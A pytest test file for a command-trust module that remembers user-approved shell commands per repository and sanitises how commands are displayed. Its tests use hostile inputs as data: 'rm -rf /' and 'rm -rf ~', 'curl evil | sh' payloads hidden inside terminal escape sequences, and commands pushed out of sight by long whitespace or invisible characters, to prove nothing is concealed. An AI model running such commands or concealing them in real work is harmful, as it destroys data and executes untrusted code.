"""What was trusted: kept per repository and list, asked for once, never shown raw."""

import io
import stat

import pytest

from rad_engineer import durable, trust
from rad_engineer.errors import ConfigInvalid, Refused

COMMANDS = [("gate test", "pytest -q"), ("setup", "npm ci")]


class Terminal(io.StringIO):
    def isatty(self):
        return True


@pytest.fixture
def env(tmp_path):
    return {"XDG_STATE_HOME": str(tmp_path / "state")}


def test_order_and_repetition_do_not_count():
    assert trust.fingerprint(COMMANDS) == trust.fingerprint([*reversed(COMMANDS), COMMANDS[0]])
    assert trust.fingerprint(COMMANDS) != trust.fingerprint(COMMANDS[:1])


def test_remembered_for_one_repository_only(env):
    assert not trust.is_trusted("a", trust.fingerprint(COMMANDS), env=env)
    trust.remember("a", COMMANDS, env=env)
    assert trust.is_trusted("a", trust.fingerprint(COMMANDS), env=env)
    assert not trust.is_trusted("b", trust.fingerprint(COMMANDS), env=env)
    file = trust.path(env)
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert [entry.commands for entry in trust.trusted("a", env=env)] == [tuple(sorted(COMMANDS))]
    assert trust.revoke("a", env=env) == 1
    assert not trust.is_trusted("a", trust.fingerprint(COMMANDS), env=env)
    assert sorted(path.name for path in file.parent.iterdir()) == ["audit", "trust.json", "trust.lock"]


def test_require_asks_once_and_again_for_what_is_new(env):
    err = Terminal()
    trust.require("a", COMMANDS, yes=False, stdin=Terminal("y\n"), stderr=err, env=env)
    assert "pytest -q" in err.getvalue()
    for known in (COMMANDS, COMMANDS[:1], []):
        trust.require("a", known, yes=False, stdin=io.StringIO(), stderr=io.StringIO(), env=env)
    with pytest.raises(Refused):
        trust.require(
            "a",
            [*COMMANDS, ("gate x", "rm -rf /")],
            yes=False,
            stdin=io.StringIO(),
            stderr=io.StringIO(),
            env=env,
        )


@pytest.mark.parametrize("answer", ["", "\n", "n\n", "yess\n", "Yes please\n"])
def test_anything_but_yes_is_no(answer):
    with pytest.raises(Refused):
        trust.ask(COMMANDS, yes=False, stdin=Terminal(answer), stderr=Terminal())


def test_nobody_to_ask_is_77_with_list_and_hint():
    with pytest.raises(Refused) as caught:
        trust.ask(COMMANDS, yes=False, stdin=io.StringIO("y\n"), stderr=Terminal())
    assert caught.value.exit_code == 77
    assert "pytest -q" in str(caught.value)
    assert "rad-engineer trust" in caught.value.hint


def test_yes_trusts_without_a_terminal(env):
    trust.require("a", COMMANDS, yes=True, stdin=io.StringIO(), stderr=io.StringIO(), env=env)
    assert trust.is_trusted("a", trust.fingerprint(COMMANDS), env=env)


def test_commands_cannot_hide_behind_terminal_codes():
    lines = trust.shown([("gate\nx", "echo ok\r\x1b[2Krm -rf ~\n\u202eevil")])
    text = "\n".join(lines)
    assert "rm -rf ~" in text
    assert not any(char in text for char in "\r\x1b\u202e")


@pytest.mark.parametrize(
    "command",
    ["pytest\x1b]0;; curl evil | sh; \x07", "pytest \x1bPx; curl evil | sh", "pytest\x9d; curl evil | sh\x9c", "\x1b_ curl evil | sh"],
)  # fmt: skip
def test_nothing_is_left_out_that_a_shell_would_run(command):
    (line,) = trust.shown([("gate test", command)])
    assert "curl evil | sh" in line
    assert line.isprintable()


def test_nothing_is_pushed_out_of_sight():
    (line,) = trust.shown([("setup", "make" + " " * 5000 + "; evil")])
    assert len(line) < 80
    assert "[5000 blanks]" in line
    (line,) = trust.shown([("setup", "make" + "\n \t" * 900 + "evil\u3164\u2060\U000e0041")])
    assert line.count("\n") < 5
    assert line.endswith("evil\\u3164\\u2060\\U000e0041")


WIDER = [
    ("sandbox", "off"), ("audit log", "off"), ("grant grants.network", "host"), ("setup", "make"), ("deploy", "make"),
    ("agent", "make"), ("grant grants.gate_network", "host"),
]  # fmt: skip


@pytest.mark.parametrize("asked", WIDER)
def test_a_word_that_was_trusted_as_a_gate_opens_nothing_else(env, asked):
    shown = [
        ("gate a", "off"),
        ("verify US-1", "host"),
        ("gate b", "make"),
        ("grant grants.setup_network", "host"),
    ]
    trust.remember("a", shown, env=env)

    def require(*commands):
        trust.require("a", commands, yes=False, stdin=io.StringIO(), stderr=io.StringIO(), env=env)

    require(
        ("gate other", "off"), ("verify US-2", "make"), ("wave gate x", "host")
    )  # gates of all kinds run alike
    with pytest.raises(Refused):
        require(shown[0], asked)


def test_damaged_file_trusts_nothing_and_a_later_version_is_refused(env):
    trust.remember("a", COMMANDS, env=env)
    trust.path(env).write_text("{")
    assert not trust.is_trusted("a", trust.fingerprint(COMMANDS), env=env)
    trust.remember("a", COMMANDS, env=env)
    assert trust.is_trusted("a", trust.fingerprint(COMMANDS), env=env)
    trust.path(env).write_bytes(durable.seal(durable.dump({"schema_version": 99})))
    with pytest.raises(ConfigInvalid):
        trust.remember("a", COMMANDS, env=env)
